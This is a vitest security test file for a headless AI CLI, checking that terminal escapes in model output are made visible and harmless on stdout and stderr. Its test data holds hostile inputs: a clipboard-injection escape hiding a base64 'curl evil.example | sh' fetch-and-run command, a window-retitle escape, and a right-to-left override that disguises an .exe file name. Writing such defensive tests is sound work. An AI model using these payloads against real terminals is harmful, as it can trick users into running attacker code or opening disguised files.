/**
 * security #42.6 in the headless app, whole process against the fake model server: the model's
 * terminal escapes never reach a terminal through text output (the answer on stdout, the stderr
 * lines that quote the model), while `--output json` and `stream-json` keep the exact text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { FakeDeepSeek, streamResponse } from '../../test-support/fake-deepseek.js'
import { runDsh, tempHome, withoutSessionHint } from '../../test-support/run-dsh.js'

let server: FakeDeepSeek
beforeAll(async () => { server = await FakeDeepSeek.start() })
afterAll(async () => { await server.close() })

const usage = { prompt_tokens: 10, completion_tokens: 3 }
const envFor = (home: string) => ({ DSH_HOME: home, DEEPSEEK_BASE_URL: server.url, DEEPSEEK_API_KEY: 'test-key' })

/** An answer that would fill the clipboard, retitle the window and reverse a file name. */
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'
const TITLE = '\x1b]0;pwned\x07'
const ANSWER = `Done.${CLIPBOARD}${TITLE} Open report\u202Efdp.exe now.\x1b[2J\u009b31m`

/** Any control character (but line feed) or bidirectional control. */
const ACTIVE = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/

describe('headless text output (security #42.6)', () => {
  it('the answer on stdout holds no ESC, BEL or C1 control, and shows the override visibly', async () => {
    const { home, cwd } = tempHome()
    // Cut mid-sequence: the lone ESC ends one chunk, the rest of the OSC starts the next.
    server.enqueue(streamResponse([{ text: 'Done.\x1b' }, { text: ANSWER.slice('Done.\x1b'.length) }, { finish: 'stop', usage }]))
    const result = await runDsh(['--profile', 'headless', 'answer'], { cwd, env: envFor(home) })
    expect(result.code).toBe(0)
    expect(result.stdout).not.toMatch(ACTIVE)
    expect(result.stdout).not.toContain('\x1b')
    expect(result.stdout).not.toContain('\x07')
    expect(result.stdout).toBe('Done.␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇␛]0;pwned␇ Open report<U+202E>fdp.exe now.␛[2J<U+009B>31m\n')
  })

  it('stderr lines that quote the model (a question no one can answer) are made safe too', async () => {
    const { home, cwd } = tempHome()
    const ask = { questions: [{ id: 'q', question: `Allow?${TITLE}\u202E`, options: [{ label: 'yes' }, { label: 'no' }] }] }
    server.enqueue(
      streamResponse([{ toolCall: { id: 'call-q', name: 'ask_user_question', arguments: JSON.stringify(ask) } }, { finish: 'tool_calls', usage }]),
      streamResponse([{ text: 'Going on.' }, { finish: 'stop', usage }]),
    )
    const result = await runDsh(['--profile', 'headless', 'ask me'], { cwd, env: envFor(home) })
    expect(result.code).toBe(0)
    const stderr = withoutSessionHint(result.stderr)
    expect(stderr).not.toMatch(ACTIVE)
    expect(stderr).toContain('<U+202E>')
  })

  it('--output json and stream-json keep the exact text: an ESC in the answer is \\u001b in the JSON', async () => {
    const { home, cwd } = tempHome()
    server.enqueue(streamResponse([{ text: ANSWER }, { finish: 'stop', usage }]))
    const json = await runDsh(['--profile', 'headless', '--output', 'json', 'answer'], { cwd, env: envFor(home) })
    expect(json.code).toBe(0)
    expect(json.stdout).toContain('\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007')
    expect(json.stdout).not.toContain('\x1b')
    expect(JSON.parse(json.stdout).output).toBe(ANSWER)

    server.enqueue(streamResponse([{ text: ANSWER }, { finish: 'stop', usage }]))
    const stream = await runDsh(['--profile', 'headless', '--output', 'stream-json', 'answer'], { cwd, env: envFor(home) })
    expect(stream.code).toBe(0)
    expect(stream.stdout).not.toContain('\x1b')
    const lines = stream.stdout.trim().split('\n').map(line => JSON.parse(line))
    expect(lines.at(-1)).toMatchObject({ type: 'result', output: ANSWER })
    expect(lines.some(line => line.event?.type === 'assistant/chunk' && line.event.data.chunk.text === ANSWER)).toBe(true)
  })
})
